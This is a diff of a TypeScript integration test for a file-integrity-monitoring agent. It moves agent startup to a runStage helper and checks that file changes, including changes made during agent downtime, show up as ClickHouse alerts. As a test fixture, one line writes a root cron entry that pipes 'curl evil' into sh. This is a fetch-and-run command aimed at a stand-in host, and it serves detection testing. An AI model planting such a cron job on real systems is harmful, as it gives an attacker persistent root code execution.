@@ -11,7 +11,8 @@ import { chmodSync, mkdirSync, mkdtempSync, renameSync, rmSync, unlinkSync, writ
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { createContext, silentLogger } from '@cordon/runtime';
-import { makeEnrollToken, startAgent, type AgentHandle } from '@cordon/agent';
+import { runStage, type RunningStage } from '@cordon/stage';
+import { agentStage, makeEnrollToken, type AgentHandle } from '@cordon/agent';
 import { applyTopics, loadConfig, openBus, openStore, startService } from '@cordon/cli';
 
 interface Row {
@@ -34,11 +35,11 @@ test('file changes become alerts in ClickHouse within 2 s, naming what changed',
     enforce: { enabled: false },
     fim: { paths: [tree], scanIntervalS: 0, debounceMs: 100, maxDelayMs: 300 },
   };
-  let agent: AgentHandle | null = null;
+  let agent: RunningStage<unknown, AgentHandle> | null = null;
   try {
     await applyTopics(bus);
     const services = [await startService('fim', { bus, ctx, config, store }), await startService('sink', { bus, ctx, config, store })];
-    agent = await startAgent({ bus, ctx, config: agentConfig });
+    agent = await runStage(agentStage, { bus, ctx, config: agentConfig });
 
     const waitFor = async (what: string, pred: (rows: Row[]) => boolean): Promise<{ rows: Row[]; ms: number }> => {
       const t0 = Date.now();
@@ -89,7 +90,7 @@ test('file changes become alerts in ClickHouse within 2 s, naming what changed',
     await agent.stop();
     agent = null;
     writeFileSync(join(tree, 'new-cron-job'), '* * * * * root curl evil | sh\n');
-    agent = await startAgent({ bus, ctx, config: agentConfig });
+    agent = await runStage(agentStage, { bus, ctx, config: agentConfig });
     const down = await waitFor('the change made during downtime', (rows) => changed(rows, join(tree, 'new-cron-job')).length > 0);
     assert.equal(changed(down.rows, join(tree, 'new-cron-job'))[0]!.op, 'added');
 
